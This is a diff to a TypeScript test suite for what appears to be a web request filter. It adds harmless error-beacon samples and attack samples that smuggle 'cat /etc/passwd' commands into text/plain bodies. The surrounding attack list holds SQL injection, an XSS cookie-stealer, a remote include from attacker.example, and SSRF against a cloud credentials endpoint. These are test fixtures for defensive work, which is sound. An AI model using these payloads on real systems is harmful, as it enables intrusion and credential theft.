@@ -108,6 +108,10 @@ const BENIGN: Sample[] = [
   { label: 'lead form with the landing page', path: '/forms/contact', type: 'application/x-www-form-urlencoded', body: new URLSearchParams({ email: 'kim@example.com', landing_page: 'https://www.example.com/pricing?plan=pro', exit_page: 'https://www.example.com/contact' }).toString() },
   { label: 'RSS feed with namespace declarations', path: '/feeds/import', type: 'application/rss+xml', body: '<?xml version="1.0"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Blog</title><item><title>2.0</title><dc:creator>Kim</dc:creator></item></channel></rss>' },
   json('a T-SQL question', '/api/search', { q: 'waitfor delay sql server', body: 'How do I use WAITFOR DELAY inside a loop without blocking other sessions?' }),
+  // error beacons: a browser's stack trace in a text/plain NDJSON body, a Java 17 trace with module names, a chat message that is a link
+  { label: 'RUM error beacon with a stack trace', path: '/api/v2/rum?ddsource=browser', type: 'text/plain;charset=UTF-8', body: [JSON.stringify({ type: 'error', error: { message: 'Script error.', stack: 'Error: boom\n    at https://app.example.com/main.js:1:100\n    at HTMLButtonElement.<anonymous> (https://app.example.com/main.js:1:200)' } }), JSON.stringify({ type: 'view', view: { url: 'https://app.example.com/cart' } })].join('\n') },
+  json('Android crash report', '/api/crashes', { trace: 'java.lang.IllegalStateException: closed\n\tat com.acme.Foo.bar(Foo.java:42)\n\tat java.base/java.lang.Thread.run(Thread.java:833)' }),
+  json('a chat message that is one link', '/api/channels/7/messages', { content: 'https://www.youtube.com/watch?v=dQw4w9WgXcQ' }),
 ];
 
 const ATTACKS: Sample[] = [
@@ -122,6 +126,8 @@ const ATTACKS: Sample[] = [
   { label: 'remote include cut by a NUL byte', path: `/view?page=${q('http://attacker.example/shell.txt\u0000')}` },
   { label: 'SQL with %A0 blanks', path: '/item?id=1%A0union%A0select%A0password%A0from%A0users' },
   { label: 'SQL in a Sentry-like text beacon', path: '/api/1/envelope/', type: 'text/plain;charset=UTF-8', body: `${JSON.stringify({ event_id: 'x' })}\n${JSON.stringify({ message: "1' UNION SELECT password FROM users--" })}` },
+  { label: 'command in a text/plain JSON beacon', path: '/api/v2/rum', type: 'text/plain', body: JSON.stringify({ message: 'x; cat /etc/passwd' }) },
+  { label: 'text/plain that is not JSON stays text', path: '/notes', type: 'text/plain', body: '{ not json ; cat /etc/passwd' },
   json('XSS in a Segment property', '/v1/batch', { batch: [{ type: 'track', properties: { name: '<img src=x onerror=alert(document.cookie)>' } }] }, 'text/plain'),
   json('SSRF in a webhook URL', '/api/webhooks', { url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' }),
   json('SQL in a filter field', '/api/search', { filter: { field: 'name', op: 'eq', value: "Kim' or '1'='1" } }),
